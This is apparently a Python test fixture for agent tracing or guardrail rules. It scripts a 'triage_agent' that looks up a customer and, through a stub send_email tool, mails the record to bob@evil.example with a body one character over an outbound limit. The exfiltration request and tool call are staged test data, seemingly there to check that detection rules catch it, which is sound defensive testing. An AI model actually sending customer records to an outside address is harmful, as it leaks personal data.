"""One scenario for every framework: what the scripted model says, the tools it may call, and where the spans go.

``triage_agent`` looks up a customer, sends an e-mail whose body is one character over the outbound limit of the classic rules, and ends.
The standard variables of the OpenTelemetry SDK say where to (OTEL_EXPORTER_OTLP_ENDPOINT, OTEL_EXPORTER_OTLP_PROTOCOL, OTEL_SERVICE_NAME).
"""

from __future__ import annotations

import json
import os
from typing import NamedTuple

from opentelemetry import trace
from opentelemetry.sdk.trace import TracerProvider
from opentelemetry.sdk.trace.export import BatchSpanProcessor, SpanExporter

AGENT = "triage_agent"
CONVERSATION = "conv-77"
INSTRUCTIONS = "You sort support tickets."
PROMPT = "Look up alice@example.com and mail what you find to bob@evil.example"
ANSWER = "Sent."


class Call(NamedTuple):
    """A tool call that the model asks for in one of its turns."""

    id: str
    tool: str
    arguments: dict[str, str]


SCRIPT = (
    Call("call_lookup", "lookup_customer", {"email": "alice@example.com"}),
    Call("call_send", "send_email", {"to": "bob@evil.example", "body": "x" * 10_001}),
)
"""The model's turns; after the last it answers ``ANSWER``."""

calls: list[str] = []
"""Tools that really ran in this process."""


def lookup_customer(email: str) -> str:
    """Look up a customer by e-mail address."""
    calls.append("lookup_customer")
    return json.dumps({"id": 42, "email": email, "plan": "gold"})


def send_email(to: str, body: str) -> str:
    """Send an e-mail."""
    calls.append("send_email")
    return f"{len(body)} characters sent to {to}"


def _exporter() -> SpanExporter:
    if os.environ.get("OTEL_EXPORTER_OTLP_PROTOCOL") == "grpc":
        from opentelemetry.exporter.otlp.proto.grpc.trace_exporter import OTLPSpanExporter as GrpcExporter

        return GrpcExporter(insecure=True)
    from opentelemetry.exporter.otlp.proto.http.trace_exporter import OTLPSpanExporter as HttpExporter

    return HttpExporter()


def tracer_provider() -> TracerProvider:
    """The SDK with its batch processor, as an application sets it up; also made the global one."""
    provider = TracerProvider()
    provider.add_span_processor(BatchSpanProcessor(_exporter()))
    trace.set_tracer_provider(provider)
    return provider


def finish(provider: TracerProvider, answer: str) -> None:
    """Sends what is left and prints what happened as one JSON object."""
    provider.shutdown()
    print(json.dumps({"answer": answer, "calls": calls}))
